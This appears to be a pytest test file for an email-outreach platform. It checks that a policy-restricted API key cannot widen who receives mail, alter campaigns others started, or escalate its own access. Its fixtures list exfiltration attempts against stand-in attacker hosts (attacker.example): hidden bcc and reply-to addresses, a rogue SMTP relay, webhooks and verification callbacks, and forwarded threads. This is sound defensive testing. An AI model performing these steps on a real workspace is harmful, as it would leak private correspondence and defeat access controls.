"""Ways round a key's policy, each closed: what it sends, what it changes of what others send, and what it hands on."""

from collections.abc import Awaitable, Callable
from dataclasses import replace

import pytest

from outrider.clock import SimulatedClock
from outrider.engine.engine import Outcome
from outrider.engine.work import triggers
from outrider.errors import Forbidden
from outrider.outreach.base import jobs
from outrider.outreach.base.reasons import Reason
from outrider.outreach.base.scope import Scope
from outrider.outreach.campaigns import campaign_senders, campaign_states, campaigns, sequences
from outrider.outreach.conversations import webhooks
from outrider.outreach.correspondence import letters
from outrider.outreach.enrollments import enrollments, outcomes, placement_changes, sources
from outrider.outreach.leads import leads, suppression, verification
from outrider.outreach.leads.leads import LeadInput
from outrider.outreach.senders import senders, warmup
from outrider.outreach.senders.senders import SenderInput, Server
from outrider.outreach.tenancy import categories, keys, registration, workspaces
from outrider.rules.policy import Asked
from tests.engine.helpers import make_engine, steps
from tests.engine.test_policies import Desk, desk
from tests.making import rows

__all__ = ["desk"]

EVE = "eve@attacker.example"
RELAY = Server("mail.attacker.example", 587, "starttls", "eve", "pw")
Way = Callable[[Desk, Scope], Awaitable[object]]

WAYS: dict[str, Way] = {
    "sender's bcc": lambda d, s: senders.update(s, d.made.sender_ids[0], bcc=EVE),
    "sender's reply-to": lambda d, s: senders.update(s, d.made.sender_ids[0], reply_to=EVE),
    "sender's name": lambda d, s: senders.update(s, d.made.sender_ids[0], name="Eve"),
    "sender's server": lambda d, s: senders.update(s, d.made.sender_ids[0], smtp=RELAY),
    "sender's mailbox": lambda d, s: senders.update(s, d.made.sender_ids[0], imap=RELAY),
    "sender's signature": lambda d, s: senders.update(s, d.made.sender_ids[0], signature="http://attacker.example"),
    "sender's tracking domain": lambda d, s: senders.update(s, d.made.sender_ids[0], tracking_domain="t.attacker.example"),
    "sender's limit": lambda d, s: senders.update(s, d.made.sender_ids[0], daily_limit=9999),
    "a sender of its own": lambda d, s: senders.create(s, SenderInput(EVE, smtp=RELAY)),
    "a sender resumed": lambda d, s: senders.resume(s, d.made.sender_ids[0]),
    "warm-up": lambda d, s: warmup.enable(s, d.made.sender_ids),
    "copies of a draft": lambda d, s: campaigns.update(s, d.made.campaign_id, settings={"bcc": [EVE]}),
    "copies of a new campaign": lambda d, s: campaigns.create(s, "Mine", settings={"cc": [EVE]}),
    "a lead's address": lambda d, s: leads.update(s, d.made.lead_ids[0], email=EVE),
    "a lead's profile": lambda d, s: leads.update(s, d.made.lead_ids[0], linkedin_url="https://linkedin.com/in/eve"),
    "a lead's profile by import": lambda d, s: leads.upsert(
        s, [LeadInput(email="p0@prospect.example", linkedin_url="https://linkedin.com/in/eve")]
    ),
    "a webhook": lambda d, s: webhooks.create(
        s, dialect="outrider", url="https://attacker.example/", event_types=["reply.received"]
    ),
    "a verdict told elsewhere": lambda d, s: verification.record(
        s, "p0@prospect.example", "pending", webhook_url="https://attacker.example/?what=was-read"
    ),
    "a job": lambda d, s: jobs.enqueue(s, "leads.move", {"to": d.made.campaign_id}),
    "another key": lambda d, s: keys.create(s, "another"),
    "its own policy": lambda d, s: keys.restrict(s, d.key_id, d.policy.__class__()),
    "its own key renewed": lambda d, s: keys.renew(s, d.key_id),
    "a member": lambda d, s: registration.invite(s, EVE, "Eve", ask=True),
    "a setting of the workspace": lambda d, s: workspaces.update(s, settings={"approval_mails": False}),
    "a workspace": lambda d, s: workspaces.create(s, "Mine"),
}
RUNNING: dict[str, Way] = {
    "texts": lambda d, s: sequences.replace(s, d.made.campaign_id, steps(0, body="Send money to Eve")),
    "the day's number": lambda d, s: campaigns.update(s, d.made.campaign_id, daily_limit=9999),
    "its hours": lambda d, s: campaigns.update(s, d.made.campaign_id, schedule={}),
    "senders": lambda d, s: campaign_senders.attach(s, d.made.campaign_id, d.made.sender_ids),
    "a search": lambda d, s: sources.add(s, d.made.campaign_id, "https://www.linkedin.com/search/results/people/?keywords=eve"),
    "a lead's name": lambda d, s: leads.update(s, d.made.lead_ids[0], first_name="Eve"),
    "a lead's name by import": lambda d, s: leads.upsert(s, [LeadInput(email="p0@prospect.example", first_name="Eve")]),
    "a lead's fields": lambda d, s: enrollments.update_fields(s, d.made.enrollment_ids[0], {"first_name": "Eve"}),
    "a lead's values": lambda d, s: placement_changes.set_fields(
        s, ("enrollment", d.made.enrollment_ids[0]), {"first_name": "Eve"}
    ),
    "a paused lead": lambda d, s: enrollments.resume(s, [d.made.enrollment_ids[1]]),
}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
async def test_a_key_with_a_policy_does_not_widen_what_is_sent(desk: Desk, way: Way) -> None:
    await desk.restrict(Asked(recipients="enrolled"))
    with pytest.raises(Forbidden):
        await desk.asks(lambda scope: way(desk, scope))


@pytest.mark.parametrize("way", RUNNING.values(), ids=RUNNING.keys())
async def test_a_key_with_a_policy_leaves_what_others_started_alone(desk: Desk, way: Way) -> None:
    await desk.starts()
    async with desk.core.scope(desk.made.workspace_id) as scope:
        await enrollments.pause(scope, [desk.made.enrollment_ids[1]])
    await desk.restrict(Asked(recipients="thread"))
    with pytest.raises(Forbidden, match="policy of this key"):
        await desk.asks(lambda scope: way(desk, scope))


async def test_it_changes_what_it_started_itself(desk: Desk) -> None:
    """All of that leaves under its policy."""
    await desk.restrict(Asked(domains=["prospect.example"]))
    await desk.asks(desk.start)
    await desk.asks(lambda scope: campaigns.update(scope, desk.made.campaign_id, daily_limit=1))
    assert len(await desk.sent()) == 1


async def test_a_lead_that_nobody_has_written_to_is_its_to_correct(desk: Desk) -> None:
    await desk.restrict(Asked(recipients="enrolled"))
    async with desk.core.scope(desk.made.workspace_id) as scope:
        [saved] = await leads.upsert(scope, [LeadInput(email="wrong@prospect.example")])
    await desk.asks(lambda scope: leads.update(scope, saved.lead_id or 0, email="right@prospect.example"))


async def test_a_missing_address_of_an_enrolled_lead_is_not_its_to_add(desk: Desk) -> None:
    async with desk.core.scope(desk.made.workspace_id) as scope:
        [saved] = await leads.upsert(scope, [LeadInput(linkedin_url="https://linkedin.com/in/ada")])
        await enrollments.enroll(scope, desk.made.campaign_id, [saved.lead_id or 0])
    await desk.restrict(Asked(recipients="enrolled"))
    with pytest.raises(Forbidden, match="address of a lead"):
        await desk.asks(lambda scope: leads.upsert(scope, [LeadInput(email=EVE, linkedin_url="https://linkedin.com/in/ada")]))


async def test_whom_others_suppressed_is_not_its_to_release(desk: Desk) -> None:
    async with desk.core.scope(desk.made.workspace_id) as scope:
        added = await suppression.add(scope, [suppression.EntryInput("email", EVE)])
    await desk.restrict(Asked(recipients="enrolled"))
    with pytest.raises(Forbidden, match="policy of this key"):
        await desk.asks(lambda scope: suppression.remove(scope, [entry.id for entry in added.created]))


async def test_copies_are_held_to_the_domains(desk: Desk) -> None:
    """Whoever set them, and when."""
    async with desk.core.scope(desk.made.workspace_id) as scope:
        await campaigns.update(scope, desk.made.campaign_id, settings={"bcc": [EVE]})
    await desk.restrict(Asked(domains=["prospect.example"]))
    await desk.asks(desk.start)
    assert await desk.sent() == []
    assert await desk.reasons() == {Reason.KEY_DOMAINS}


async def test_a_hidden_copy_of_the_sender_is_held_to_the_domains(desk: Desk) -> None:
    async with desk.core.scope(desk.made.workspace_id) as scope:
        await senders.update(scope, desk.made.sender_ids[0], bcc=EVE)
    await desk.restrict(Asked(domains=["prospect.example"]))
    await desk.asks(desk.start)
    assert await desk.sent() == []


async def received(desk: Desk) -> int:
    """A message of the first lead; its id."""
    await desk.starts()
    await desk.sent()
    [message] = await rows(
        desk.core,
        """
        INSERT INTO messages (workspace_id, direction, kind, state, sender_id, conversation_id, lead_id, from_address, subject,
                              wire_id, sent_at, created_at, updated_at)
        SELECT m.workspace_id, 'in', 'reply', 'received', m.sender_id, m.conversation_id, m.lead_id, 'p0@prospect.example',
               'Re: Hi', 'theirs@prospect.example', m.sent_at, m.created_at, m.updated_at
        FROM messages m WHERE m.workspace_id = %(workspace_id)s AND m.to_addresses = '{p0@prospect.example}' RETURNING id
        """,
        workspace_id=desk.made.workspace_id,
    )
    return message["id"]


async def test_a_thread_is_not_forwarded_to_a_stranger(desk: Desk) -> None:
    message = await received(desk)
    await desk.restrict(Asked(recipients="thread"))
    with pytest.raises(Forbidden, match="this recipient"):
        await desk.asks(lambda scope: letters.forward(scope, message, to=[EVE]))


async def test_answers_to_a_letter_go_to_nobody_else(desk: Desk) -> None:
    message = await received(desk)
    await desk.restrict(Asked(recipients="thread"))
    with pytest.raises(Forbidden, match="answers"):
        await desk.asks(lambda scope: letters.forward(scope, message, to=["p0@prospect.example"], reply_to=EVE))


async def test_a_test_mail_goes_to_no_stranger(desk: Desk) -> None:
    await desk.restrict(Asked(recipients="enrolled"))
    with pytest.raises(Forbidden, match="this recipient"):
        await desk.asks(
            lambda scope: letters.send_new(
                scope, desk.made.sender_ids[0], to=[EVE], subject="Test", body_text="Secrets", kind="test"
            )
        )


async def retried(desk: Desk, clock: SimulatedClock, asked: Asked) -> list[str]:
    """Have a server put off the campaign's first message, restrict the key, and let the retry's time come; who was written to."""
    desk.transport.answers = {f"p{i}@prospect.example": Outcome("later", "greylisted") for i in range(3)}
    await desk.asks(desk.start)
    await desk.sent()
    desk.transport.answers = {}
    await desk.restrict(asked)
    clock.advance(3600)
    return await desk.sent()


@pytest.mark.parametrize(
    ("asked", "reason"),
    [
        (Asked(domains=["elsewhere.example"]), Reason.KEY_DOMAINS),
        (Asked(sends_a_day=0), Reason.KEY_DAILY_LIMIT),
        (Asked(first_contact=False), Reason.KEY_FIRST_CONTACT),
        (Asked(recipients="thread"), Reason.KEY_RECIPIENTS),
        (Asked(hours="sun 03:00-04:00 UTC"), Reason.KEY_OUTSIDE_HOURS),
    ],
)
async def test_a_retry_is_held_by_a_policy_that_came_after_its_first_attempt(
    desk: Desk, clock: SimulatedClock, asked: Asked, reason: Reason
) -> None:
    assert await retried(desk, clock, asked) == []
    found = await rows(desk.core, "SELECT DISTINCT state, state_reason FROM messages WHERE direction = 'out'")
    assert found == [{"state": "queued", "state_reason": reason}]


async def test_a_retry_under_a_policy_that_allows_it_leaves(desk: Desk, clock: SimulatedClock) -> None:
    assert len(await retried(desk, clock, Asked(domains=["prospect.example"]))) == 3


async def test_an_attempt_that_did_not_leave_is_not_counted(desk: Desk, clock: SimulatedClock) -> None:
    await desk.restrict(Asked(sends_a_day=3))
    assert len(await retried(desk, clock, Asked(sends_a_day=3))) == 3


async def test_a_letter_that_was_put_off_counts_once(desk: Desk, clock: SimulatedClock) -> None:
    await desk.restrict(Asked(sends_a_day=2))
    desk.transport.answers = {"a@elsewhere.example": Outcome("later", "greylisted")}
    await desk.write("a@elsewhere.example")
    await desk.sent()
    desk.transport.answers = {}
    clock.advance(3600)
    await desk.sent()
    assert await rows(desk.core, "SELECT n FROM key_days") == [{"n": 1}]


async def test_what_it_triggers_leaves_under_its_policy(desk: Desk) -> None:
    """A category that brings a lead into a subsequence which a person runs."""
    await desk.starts()
    async with desk.core.scope(desk.made.workspace_id) as scope:
        category = (await categories.find_all(scope))[0]
        inner = await campaigns.create(
            scope, "Inner", parent_id=desk.made.campaign_id, triggers={"category_ids": [category.id], "wait_seconds": 0}
        )
        await sequences.replace(scope, inner.id, steps(0))
        await campaign_senders.attach(scope, inner.id, desk.made.sender_ids)
        await campaign_states.start(scope, inner.id, force=True)
    await desk.sent()
    before = len(desk.transport.left)
    await desk.restrict(Asked(sends_a_day=0))
    await desk.asks(lambda scope: outcomes.set_category(scope, category.id, enrollment_ids=[desk.made.enrollment_ids[0]]))
    await triggers.fire(make_engine(desk.core), desk.made.workspace_id)
    await desk.sent()
    assert len(desk.transport.left) == before
    found = await rows(desk.core, "SELECT reason FROM enrollments WHERE campaign_id = %(id)s", id=inner.id)
    assert found == [{"reason": Reason.KEY_DAILY_LIMIT}]


async def test_a_key_of_few_scopes_makes_none_of_all(desk: Desk) -> None:
    async with desk.core.scope(desk.made.workspace_id) as scope:
        narrow = replace(scope, actor=replace(scope.actor, scopes=frozenset({"api_keys:create"})))
        with pytest.raises(Forbidden, match="every scope"):
            await keys.create(narrow, "all")
